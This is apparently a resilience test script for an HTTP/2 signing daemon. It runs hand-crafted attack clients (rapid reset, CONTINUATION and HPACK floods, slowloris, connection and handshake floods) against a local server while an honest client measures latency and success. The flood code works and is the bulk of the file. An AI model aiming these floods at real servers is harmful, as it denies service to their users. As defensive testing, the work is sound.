#!/usr/bin/python3
"""tests/attack/h2attack.py - hostile HTTP/2 and TLS clients against a running portseald.

Each scenario runs one attack for --seconds while an honest client (a separate process using
python3-h2) keeps signing on /v1/sign/hash. It prints TAP-style lines that tests/run counts:

  ok - SCENARIO: honest client ...     every honest request succeeded, latency bounded
  ok - SCENARIO: memory ...            total RSS of all portseald processes stayed bounded
  ok - SCENARIO: attacker cut off ...  the server ended the attack (GOAWAY, close, 4xx)

and a "# SCENARIO: honest N req/s (baseline B)" line with the measured effect.

Attack frames are written by hand (struct + hpack), so that they can break the protocol the
way an attacker would; the honest client is an ordinary h2.connection client.
"""
import argparse
import base64
import hashlib
import json
import os
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from urllib.parse import urlparse

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


class Opts:
    pass


O = Opts()


# ---- TLS -----------------------------------------------------------------------------------

def tls_context(cert=True, alpn=True):
    ctx = ssl.create_default_context(cafile=O.ca)
    if cert:
        ctx.load_cert_chain(O.attack_cert, O.attack_key)
    if alpn:
        ctx.set_alpn_protocols(["h2"])
    return ctx


def tcp_connect(timeout=5, src=None):
    """src: the attacker's source address (127.0.0.2 by default), so that limits per address
    can tell it from the honest client on 127.0.0.1."""
    s = socket.create_connection((O.host, O.port), timeout=timeout,
                                 source_address=(src, 0) if src else None)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


class Raw:
    """One attacker connection: TLS, the preface and an empty SETTINGS, then raw frames."""

    def __init__(self, cert=True, settings=b""):
        self.sock = tls_context(cert).wrap_socket(tcp_connect(src=O.src), server_hostname=O.host)
        self.sock.settimeout(5)
        self.buf = b""
        self.goaway = None     # error code of a GOAWAY received
        self.closed = False    # EOF or reset from the server
        self.statuses = []     # :status of every response HEADERS
        self.retry_after = []  # the retry-after of every response that had one
        self.rst = 0
        self.dec = hpack.Decoder()
        self.settings = False  # the server's SETTINGS arrived (and were acknowledged)
        self.win_conn, self.win_init, self.win = 65535, 65535, {}  # our send windows
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        # wait for them: an ACK sent later could land inside a header block we leave open
        end = time.monotonic() + 3
        while not self.settings and not self.cut() and time.monotonic() < end:
            self.pump(0.1)

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def cut(self):
        return self.closed or self.goaway is not None

    def pump(self, wait=0.0):
        """Read what has arrived (waiting up to wait seconds for the first byte)."""
        end = time.monotonic() + wait
        while not self.closed:
            left = end - time.monotonic()
            if self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], max(left, 0))
                if not r:
                    return
            try:
                self.sock.settimeout(0.5)
                b = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not b:
                self.closed = True
                return
            self.buf += b
            self.parse()
            wait = 0
            end = time.monotonic()

    def wait_cut(self, seconds):
        end = time.monotonic() + seconds
        while not self.cut() and time.monotonic() < end:
            self.pump(min(0.2, max(end - time.monotonic(), 0)))
        return self.cut()

    def parse(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            t, fl = self.buf[3], self.buf[4]
            fsid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            if t == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif t == RST_STREAM:
                self.rst += 1
            elif t == HEADERS:
                try:
                    for k, v in self.dec.decode(payload):
                        if k == ":status":
                            self.statuses.append(int(v))
                        elif k == "retry-after":
                            self.retry_after.append(v)
                except Exception:
                    pass
            elif t == SETTINGS and not fl & ACK:
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    if k == 4:
                        self.win_init = v
                self.send(frame(SETTINGS, ACK, 0))
                self.settings = True
            elif t == WINDOW_UPDATE and len(payload) == 4:
                inc = int.from_bytes(payload, "big") & 0x7FFFFFFF
                if fsid == 0:
                    self.win_conn += inc
                else:
                    self.win[fsid] = self.window(fsid) + inc

    def window(self, sid):
        return self.win.get(sid, self.win_init)

    def send_data(self, sid, data, wait=1.0):
        """DATA within the flow-control windows the server gives (as an honest sender would,
        so that only the body limit can stop it). False if no window opened within wait."""
        while data and not self.cut():
            room = min(self.win_conn, self.window(sid), 16384, len(data))
            if room <= 0:
                self.pump(wait)
                if min(self.win_conn, self.window(sid)) <= 0:
                    return False
                continue
            self.send(frame(DATA, 0, sid, data[:room]))
            self.win_conn -= room
            self.win[sid] = self.window(sid) - room
            data = data[room:]
        return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def req_headers(path="/v1/sign/hash", method="POST", extra=(), end_stream=False, enc=None):
    enc = enc or hpack.Encoder()
    hdrs = [(":method", method), (":scheme", "https"), (":authority", "%s:%d" % (O.host, O.port)),
            (":path", path)]
    if method == "POST":
        hdrs.append(("content-type", "application/json"))
    return enc.encode(hdrs + list(extra))


def sign_body():
    h = base64.b64encode(hashlib.sha256(os.urandom(8)).digest()).decode()
    return json.dumps({"key": O.key_id, "alg": "ecdsa-sha256", "hashes": [h]}).encode()


# ---- the honest client (its own process) ---------------------------------------------------

def honest_main(args):
    import h2.config
    import h2.connection
    import h2.events

    O.__dict__.update(vars(args))
    stop_at = time.monotonic() + args.seconds
    lat, fails, errors, reconnects = [], 0, [], 0
    per_sec = {}
    conn = sock = None
    done_on_conn = 0
    interval = 1.0 / args.rate
    next_t = time.monotonic()

    def connect():
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(tcp_connect(), server_hostname=O.host)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        s.sendall(c.data_to_send())
        return s, c

    def one(s, c):
        body = sign_body()
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, [(":method", "POST"), (":scheme", "https"),
                             (":authority", "%s:%d" % (O.host, O.port)), (":path", "/v1/sign/hash"),
                             ("content-type", "application/json"),
                             ("content-length", str(len(body)))])
        c.send_data(sid, body, end_stream=True)
        s.sendall(c.data_to_send())
        status, data = None, b""
        s.settimeout(args.timeout)
        while True:
            b = s.recv(65536)
            if not b:
                raise ConnectionError("connection closed")
            for ev in c.receive_data(b):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = int(dict(ev.headers)[b":status"])
                elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                    data += ev.data
                    c.acknowledge_received_data(ev.flow_controlled_length, sid)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    s.sendall(c.data_to_send())
                    return status, data
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                    raise ConnectionError("stream reset")
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    raise ConnectionError("GOAWAY")
            s.sendall(c.data_to_send())

    while time.monotonic() < stop_at:
        now = time.monotonic()
        if now < next_t:
            time.sleep(next_t - now)
        next_t = max(next_t + interval, time.monotonic() - 1)
        t0 = time.monotonic()
        err = None
        for attempt in range(2):  # a connection the server closed between requests: once more
            try:
                if conn is None or done_on_conn >= args.per_conn:
                    if sock:
                        sock.close()
                    sock, conn = connect()
                    done_on_conn = 0
                    reconnects += 1
                status, data = one(sock, conn)
                done_on_conn += 1
                if status != 200 or b'"signatures"' not in data:
                    err = "status %s: %s" % (status, data[:120])
                else:
                    err = None
                break
            except Exception as e:  # noqa: BLE001 - every failure counts
                err = "%s: %s" % (type(e).__name__, e)
                if sock:
                    sock.close()
                sock = conn = None
                if attempt == 0 and time.monotonic() - t0 < 1:
                    continue
                break
        dt = time.monotonic() - t0
        if err:
            fails += 1
            if len(errors) < 5:
                errors.append(err)
        else:
            lat.append(dt)
            sec = int(t0 - (stop_at - args.seconds))
            per_sec[sec] = per_sec.get(sec, 0) + 1
    lat.sort()
    out = {"ok": len(lat), "fails": fails, "errors": errors, "reconnects": reconnects,
           "max": lat[-1] if lat else None, "p50": lat[len(lat) // 2] if lat else None,
           "p99": lat[int(len(lat) * 0.99)] if lat else None,
           "per_sec": [per_sec.get(i, 0) for i in range(int(args.seconds))]}
    print(json.dumps(out))
    return 0


# ---- memory --------------------------------------------------------------------------------

def daemon_pids():
    pids = [O.pid]
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                with open("/proc/%s/stat" % d) as f:
                    st = f.read()
                if int(st[st.rindex(")") + 2:].split()[1]) == O.pid:
                    pids.append(int(d))
            except (OSError, ValueError):
                pass
    return pids


def total_rss_kb():
    total = 0
    for p in daemon_pids():
        try:
            with open("/proc/%d/status" % p) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


class RssWatch(threading.Thread):
    def __init__(self):
        super().__init__(daemon=True)
        self.peak = self.start_kb = total_rss_kb()
        self.running = True

    def run(self):
        while self.running:
            self.peak = max(self.peak, total_rss_kb())
            time.sleep(0.1)


# ---- attacks -------------------------------------------------------------------------------
# Each runs until deadline and returns (cut, tries, note): how many attacker connections the
# server cut off, out of how many tries, and what was seen.

def until(deadline):
    return time.monotonic() < deadline


def raw(**kw):
    """A new attacker connection, or None if the server refused it (connection_rate): the
    caller counts that as a try that was cut off."""
    try:
        return Raw(**kw)
    except OSError:
        time.sleep(0.05)
        return None


def attack_rapid_reset(deadline):
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        sid, enc = 1, hpack.Encoder()
        while until(deadline) and not c.cut() and sid < 2 ** 31 - 400:
            out = b""
            for _ in range(100):
                out += frame(HEADERS, END_HEADERS, sid, req_headers(enc=enc))
                out += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))  # CANCEL
                sid += 2
            c.send(out)
            c.pump()
        cut += c.wait_cut(2)
        c.close()
    return cut, tries, "GOAWAY after RST_STREAM floods"


def attack_continuation_flood(deadline):
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        # no END_HEADERS, then empty CONTINUATIONs: the header block never grows, so only a
        # limit on their number stops this before header_timeout does (hence the 1.5 s)
        c.send(frame(HEADERS, 0, 1, req_headers()))
        t0 = time.monotonic()
        while until(deadline) and not c.cut() and time.monotonic() - t0 < 1.5:
            c.send(frame(CONTINUATION, 0, 1, b"") * 200)
            c.pump(0.05)
        cut += c.cut()
        c.close()
    return cut, tries, "closed after a stream of empty CONTINUATION frames"


def attack_hpack_bomb(deadline):
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        # a 4000-byte header into the dynamic table (literal with incremental indexing, index
        # 62 afterwards), then a header block of nothing but references to it
        big = b"\x40" + hpack_str(b"x-bomb") + hpack_str(b"a" * 4000)
        block = req_headers(method="GET", path="/healthz") + big + b"\xbe" * 12000
        sid = 1
        while until(deadline) and not c.cut():
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
            c.pump(0.1)
            sid += 2
        cut += c.wait_cut(2)
        c.close()
    return cut, tries, "closed for a 16 KB header block decoding to ~48 MB"


def hpack_str(b):
    """An HPACK string literal without Huffman coding."""
    n = len(b)
    if n < 127:
        return bytes([n]) + b
    out, n = bytearray([127]), n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return bytes(out) + b


def control_flood(deadline, make):
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        while until(deadline) and not c.cut():
            # small batches, ACKs read as they come: nghttp2's limit on queued ACKs
            # (max_outbound_ack) never fills, only control_frame_rate stops this
            c.send(make() * 20)
            c.pump(0.001)
        cut += c.wait_cut(2)
        c.close()
    return cut, tries


def attack_settings_flood(deadline):
    cut, tries = control_flood(deadline, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
    return cut, tries, "GOAWAY for SETTINGS frames beyond control_frame_rate"


def attack_ping_flood(deadline):
    cut, tries = control_flood(deadline, lambda: frame(PING, 0, 0, b"12345678"))
    return cut, tries, "GOAWAY for PING frames beyond control_frame_rate"


def attack_window_flood(deadline):
    cut, tries = control_flood(deadline, lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    return cut, tries, "GOAWAY for WINDOW_UPDATE frames beyond control_frame_rate"


def attack_window_overflow(deadline):
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        # the connection window overflows past 2^31-1: FLOW_CONTROL_ERROR
        c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2 ** 31 - 1)) * 2)
        cut += c.wait_cut(2)
        c.close()
        time.sleep(0.05)
    return cut, tries, "GOAWAY FLOW_CONTROL_ERROR on window overflow"


def attack_zero_window(deadline):
    """Open a zero flow-control window, ask for responses and never take them."""
    cut = tries = 0
    conns = []
    while until(deadline):
        if len(conns) < 20:
            try:
                c = Raw(settings=struct.pack(">HI", 4, 0))  # INITIAL_WINDOW_SIZE 0
            except OSError:
                tries += 1
                cut += 1
                time.sleep(0.1)
                continue
            tries += 1
            c.t0 = time.monotonic()
            enc = hpack.Encoder()
            c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid,
                                  req_headers(method="GET", path="/healthz", enc=enc))
                            for sid in range(1, 100, 2)))
            conns.append(c)
        for c in conns[:]:
            c.pump()
            if c.cut():
                cut += 1
                c.close()
                conns.remove(c)
        time.sleep(0.05)
    for c in conns:  # give the ones opened last their chance
        if c.wait_cut(max(0, O.send_timeout + 3 - (time.monotonic() - c.t0))):
            cut += 1
        c.close()
    return cut, tries, "closed when responses were not taken (send_timeout)"


def slow_attack(deadline, nconn, start, trickle, limit, accept_408=False):
    """nconn connections that start a request and then trickle; each must be cut off within
    limit seconds of its start."""
    cut = tries = 0
    late = 0
    conns = []
    while until(deadline) or conns:
        while until(deadline) and len(conns) < nconn:
            try:
                c = Raw()
            except OSError:
                tries += 1
                cut += 1
                time.sleep(0.1)
                break
            tries += 1
            c.t0 = time.monotonic()
            c.sent = 0
            start(c)
            conns.append(c)
        for c in conns[:]:
            c.pump()
            age = time.monotonic() - c.t0
            if c.cut() or (accept_408 and 408 in c.statuses):
                cut += 1
                late += age > limit
                c.close()
                conns.remove(c)
            elif age > limit:
                late += 1
                c.close()
                conns.remove(c)
            else:
                trickle(c)
        time.sleep(0.5)
    return cut - late if cut >= late else 0, tries


def attack_slow_headers(deadline):
    def start(c):
        c.send(frame(HEADERS, 0, 1, req_headers()))  # valid fields, but no END_HEADERS

    def trickle(c):
        c.sent += 1
        if c.sent <= 4:  # a few CONTINUATIONs, under max_continuations: only the timeout helps
            c.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))  # one more field

    cut, tries = slow_attack(deadline, 30, start, trickle, O.header_timeout + 4)
    return cut, tries, "closed within header_timeout+4 s"


def attack_slow_body(deadline):
    def start(c):
        c.send(frame(HEADERS, END_HEADERS, 1, req_headers(extra=[("content-length", "1000")])))

    def trickle(c):
        c.send(frame(DATA, 0, 1, b" "))

    cut, tries = slow_attack(deadline, 30, start, trickle, O.body_timeout + 4, accept_408=True)
    return cut, tries, "408 or closed within body_timeout+4 s"


def attack_oversized_body(deadline):
    cut = tries = 0
    chunk = b"{" * 16384
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        c.send(frame(HEADERS, END_HEADERS, 1, req_headers()))  # no content-length
        sent = 0
        end = time.monotonic() + 5
        while not c.cut() and not c.statuses and sent < (200 << 20) and time.monotonic() < end:
            # within the flow-control windows: only the body limit stops this
            if not c.send_data(1, chunk * 8):
                break
            sent += 8 * len(chunk)
            c.pump()
        c.wait_cut(0.5)
        if 413 in c.statuses or c.cut():
            cut += 1
        c.close()
        # and one that announces its size
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        c.send(frame(HEADERS, END_HEADERS, 1, req_headers(extra=[("content-length", str(1 << 30))])))
        c.wait_cut(1)
        if 413 in c.statuses or c.cut():
            cut += 1
        c.close()
    return cut, tries, "413 (or closed) for bodies over max_body"


def count_closed(socks):
    """How many of socks the server has closed (EOF or reset); closes them all."""
    cut = 0
    for s in socks:
        try:
            s.setblocking(False)
            while True:
                b = s.recv(65536)
                if not b:
                    cut += 1
                    break
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            cut += 1
        s.close()
    return cut


def attack_idle_conns(deadline):
    """Thousands of connections that do nothing: half never start TLS, half stop after the
    HTTP/2 preface. The server may hold max_connections per worker; beyond, it must push the
    idle ones out rather than refuse new (honest) clients."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65536)), hard))
    socks, tries = [], 0
    while until(deadline) and tries < O.idle_conns:
        try:
            # from many addresses (127.1.x.y), as a botnet would: connection_rate does not
            # stop this one, only the cap and its eviction do
            src = "127.1.%d.%d" % (tries // 250 % 250, tries % 250 + 1) if O.src else None
            if tries % 4:
                s = tcp_connect(src=src)
            else:
                s = tls_context().wrap_socket(tcp_connect(src=src), server_hostname=O.host)
                s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            socks.append(s)
            tries += 1
        except OSError:
            time.sleep(0.05)
    while until(deadline):
        time.sleep(0.2)
    cut = count_closed(socks)
    return cut, tries, "idle connections closed (all but the %d the workers may hold)" % O.conn_cap


def attack_one_address(deadline):
    """Idle TLS connections (preface, then nothing) from one address, opened below
    connection_rate: each worker keeps at most max_connections_per_address of them, pushing out
    that address's oldest, and nobody else's: a few idle connections from another address,
    opened first, must outlive the flood (when it ends within idle_timeout)."""
    t_start = time.monotonic()
    bystanders = []
    for _ in range(4):
        s = tls_context().wrap_socket(tcp_connect(src="127.0.0.3"), server_hostname=O.host)
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        bystanders.append(s)
    socks, tries = [], 0
    # at least three times what the workers may keep, however slow the handshakes are
    while until(deadline) or (tries < 3 * O.address_cap and until(deadline + 20)):
        try:
            s = tls_context().wrap_socket(tcp_connect(src=O.src), server_hostname=O.host)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            socks.append(s)
            tries += 1
        except OSError:
            pass
        time.sleep(1.0 / O.one_address_rate)
    time.sleep(0.5)
    cut = count_closed(socks)
    note = "connections of one address closed (all but the %d the workers may hold)" % O.address_cap
    gone = count_closed(bystanders)
    if time.monotonic() - t_start < O.idle_timeout - 1:
        if gone:
            return 0, tries, "%d of 4 idle connections of another address were closed too" % gone
        note += "; another address's 4 idle connections kept"
    return cut, tries, note


def attack_no_client_cert(deadline):
    cut = tries = 0
    while until(deadline):
        c = raw(cert=False)
        if c is None:  # refused by connection_rate: this check is about the GOAWAY
            continue
        tries += 1
        enc = hpack.Encoder()
        body = sign_body()
        c.send(b"".join(frame(HEADERS, END_HEADERS, sid, req_headers(enc=enc)) +
                        frame(DATA, END_STREAM, sid, body) for sid in range(1, 21, 2)))
        if c.wait_cut(1.5) and all(s == 401 for s in c.statuses):
            cut += 1
        c.close()
    return cut, tries, "401 and GOAWAY for requests without a client certificate"


def attack_handshake_flood(deadline):
    """Threads doing full handshakes and closing, and connections that send a ClientHello and
    then stall (never finish the handshake)."""
    stop = threading.Event()
    done, refused = [0], [0]

    def full():
        ctx = tls_context()
        while not stop.is_set():
            try:
                s = ctx.wrap_socket(tcp_connect(src=O.src), server_hostname=O.host)
                s.close()
                done[0] += 1
            except OSError:
                refused[0] += 1
                time.sleep(0.01)

    threads = [threading.Thread(target=full, daemon=True) for _ in range(4)]
    for t in threads:
        t.start()
    stalled, tries = [], 0
    while until(deadline):
        for _ in range(20):
            try:
                # stalled ones from many addresses (127.2.x.y): connection_rate does not see
                # them, only handshake_timeout ends them
                src = "127.2.%d.%d" % (tries // 250 % 250, tries % 250 + 1) if O.src else None
                s = tcp_connect(src=src)
                bio_in, bio_out = ssl.MemoryBIO(), ssl.MemoryBIO()
                obj = tls_context().wrap_bio(bio_in, bio_out, server_hostname=O.host)
                try:
                    obj.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                s.sendall(bio_out.read())  # the ClientHello, and then nothing
                stalled.append((s, time.monotonic(), obj))
                tries += 1
            except OSError:
                break
        time.sleep(0.5)
    stop.set()
    for t in threads:
        t.join(2)
    cut = 0
    limit = O.handshake_timeout + 4
    for s, t0, obj in stalled:
        try:
            while True:  # the server's handshake messages, then EOF
                s.settimeout(max(0.01, limit - (time.monotonic() - t0)))
                if s.recv(65536) == b"":
                    cut += 1
                    break
        except socket.timeout:
            pass
        except OSError:
            cut += 1
        s.close()
    nfull = done[0] + refused[0]
    both = refused[0] * 2 >= nfull > 0 and cut * 2 >= tries > 0
    return (tries + nfull if both else 0, tries + nfull,
            "both halves: full handshakes from one address refused by connection_rate (%d of %d) "
            "and stalled ones closed within handshake_timeout+4 s (%d of %d)"
            % (refused[0], nfull, cut, tries))


def attack_request_flood(deadline):
    """Valid requests as fast as one connection takes them: request_rate answers 429."""
    cut = tries = 0
    while until(deadline):
        c = raw()
        tries += 1
        if c is None:
            cut += 1
            continue
        enc = hpack.Encoder()
        sid = 1
        while until(deadline) and not c.cut() and 429 not in c.statuses:
            out = b""
            for _ in range(50):
                out += frame(HEADERS, END_HEADERS | END_STREAM, sid,
                             req_headers(method="GET", path="/v1/keys", enc=enc))
                sid += 2
            c.send(out)
            c.pump(0.02)
        # a 429 says when to come back (retry-after, whole seconds)
        if 429 in c.statuses and c.retry_after and all(v.isdigit() for v in c.retry_after):
            cut += 1
        c.close()
    return cut, tries, "429 rate_limited beyond request_rate, with retry-after"


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "continuation_flood": attack_continuation_flood,
    "hpack_bomb": attack_hpack_bomb,
    "settings_flood": attack_settings_flood,
    "ping_flood": attack_ping_flood,
    "window_flood": attack_window_flood,
    "window_overflow": attack_window_overflow,
    "zero_window": attack_zero_window,
    "slow_headers": attack_slow_headers,
    "slow_body": attack_slow_body,
    "oversized_body": attack_oversized_body,
    "idle_conns": attack_idle_conns,
    "one_address": attack_one_address,
    "no_client_cert": attack_no_client_cert,
    "handshake_flood": attack_handshake_flood,
    "request_flood": attack_request_flood,
}


# ---- driver --------------------------------------------------------------------------------

def start_honest(seconds):
    cmd = [sys.executable, os.path.abspath(__file__), "--honest", "--url", O.url, "--ca", O.ca,
           "--cert", O.cert, "--key", O.key, "--seconds", str(seconds), "--rate", str(O.rate),
           "--per-conn", str(O.per_conn), "--timeout", str(O.max_latency + 5), "--pid", str(O.pid)]
    return subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)


def honest_result(p):
    out, _ = p.communicate(timeout=O.seconds * 3 + 120)
    try:
        return json.loads(out.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return {"ok": 0, "fails": 1, "errors": ["honest client printed: %r" % out[-300:]],
                "max": None, "per_sec": []}


def report(name, ok, what):
    print("%s - %s: %s" % ("ok" if ok else "not ok", name, what), flush=True)
    return ok


def check_honest(name, h):
    per = h.get("per_sec") or []
    gaps = max_gap(per)
    good = h["fails"] == 0 and h["ok"] > 0 and h["max"] is not None and h["max"] < O.max_latency \
        and gaps < O.max_gap
    return report(name, good,
                  "honest client %d ok, %d failed, max latency %.2fs, p99 %.3fs, longest gap %ds%s"
                  % (h["ok"], h["fails"], h["max"] or -1, h.get("p99") or -1, gaps,
                     (" errors: %s" % "; ".join(h["errors"])) if h["errors"] else ""))


def max_gap(per):
    """Longest run of whole seconds without a successful honest request (ignoring the last)."""
    best = run = 0
    for n in per[:-1]:
        run = run + 1 if n == 0 else 0
        best = max(best, run)
    return best


def run_scenario(name, baseline):
    rss = RssWatch()
    rss.start()
    honest = start_honest(O.seconds + 2)
    time.sleep(1)
    t0 = time.monotonic()
    try:
        cut, tries, note = ATTACKS[name](t0 + O.seconds)
    except Exception as e:  # noqa: BLE001
        cut, tries, note = 0, 0, "attack raised %s: %s" % (type(e).__name__, e)
    h = honest_result(honest)
    rss.running = False
    rss.join()
    grow = (rss.peak - rss.start_kb) / 1024
    check_honest(name, h)
    report(name, grow < O.max_rss_growth,
           "memory: total RSS %.0f MB -> peak %.0f MB (+%.0f MB, bound +%d MB)"
           % (rss.start_kb / 1024, rss.peak / 1024, grow, O.max_rss_growth))
    need = max(1, int(tries * O.min_cut))
    if name == "idle_conns":  # the workers may keep conn_cap of them
        need = max(1, tries - O.conn_cap - 50)
    if name == "one_address":  # and address_cap of one address's
        need = max(1, tries - O.address_cap - 5)
    report(name, tries > 0 and cut >= need,
           "attacker cut off in %d of %d tries (need %d): %s" % (cut, tries, need, note))
    per = h.get("per_sec") or [0]
    during = per[1:-1] or per
    rate = sum(during) / len(during)
    print("# %s: honest client %.0f req/s during the attack (baseline %.0f, target %d), p50 %.1f ms"
          % (name, rate, baseline, O.rate, (h.get("p50") or 0) * 1000), flush=True)
    return rate


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--url", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--cert", required=True, help="honest client's certificate")
    ap.add_argument("--key", required=True)
    ap.add_argument("--attack-cert")
    ap.add_argument("--attack-key")
    ap.add_argument("--pid", type=int, required=True, help="portseald parent pid")
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--rate", type=float, default=50, help="honest requests per second")
    ap.add_argument("--per-conn", type=int, default=25, help="honest requests per connection")
    ap.add_argument("--timeout", type=float, default=15)
    ap.add_argument("--max-latency", type=float, default=5)
    ap.add_argument("--max-gap", type=int, default=3,
                    help="seconds in a row without an honest success that fail the test")
    ap.add_argument("--max-rss-growth", type=int, default=150, help="MB")
    ap.add_argument("--min-cut", type=float, default=0.5,
                    help="fraction of attacker tries that must be cut off")
    ap.add_argument("--idle-conns", type=int, default=2000)
    ap.add_argument("--conn-cap", type=int, default=600,
                    help="max_connections times workers of the instance")
    ap.add_argument("--address-cap", type=int, default=512,
                    help="max_connections_per_address times the workers")
    ap.add_argument("--one-address-rate", type=float, default=25,
                    help="one_address: connections per second (below connection_rate)")
    ap.add_argument("--idle-timeout", type=float, default=10)
    ap.add_argument("--header-timeout", type=float, default=3)
    ap.add_argument("--body-timeout", type=float, default=3)
    ap.add_argument("--send-timeout", type=float, default=3)
    ap.add_argument("--handshake-timeout", type=float, default=3)
    ap.add_argument("--key-id", default="t1-ec")
    ap.add_argument("--attacker-address", dest="src", default="127.0.0.2",
                    help="source address of the attacks ('' for none); the honest client "
                    "connects from the default one")
    ap.add_argument("--honest", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("scenarios", nargs="*", help="default: all (%s)" % " ".join(ATTACKS))
    args = ap.parse_args()
    u = urlparse(args.url)
    args.host, args.port = u.hostname, u.port
    if args.honest:
        return honest_main(args)
    O.__dict__.update(vars(args))
    O.attack_cert = args.attack_cert or args.cert
    O.attack_key = args.attack_key or args.key
    names = args.scenarios or list(ATTACKS)
    for n in names:
        if n not in ATTACKS:
            ap.error("unknown scenario %s" % n)
    b = start_honest(3)
    base = honest_result(b)
    baseline = base["ok"] / 3.0
    check_honest("baseline", base)
    print("# baseline: honest client %.0f req/s (target %d), p50 %.1f ms"
          % (baseline, O.rate, (base.get("p50") or 0) * 1000), flush=True)
    for n in names:
        run_scenario(n, baseline)
    return 0


if __name__ == "__main__":
    sys.exit(main())
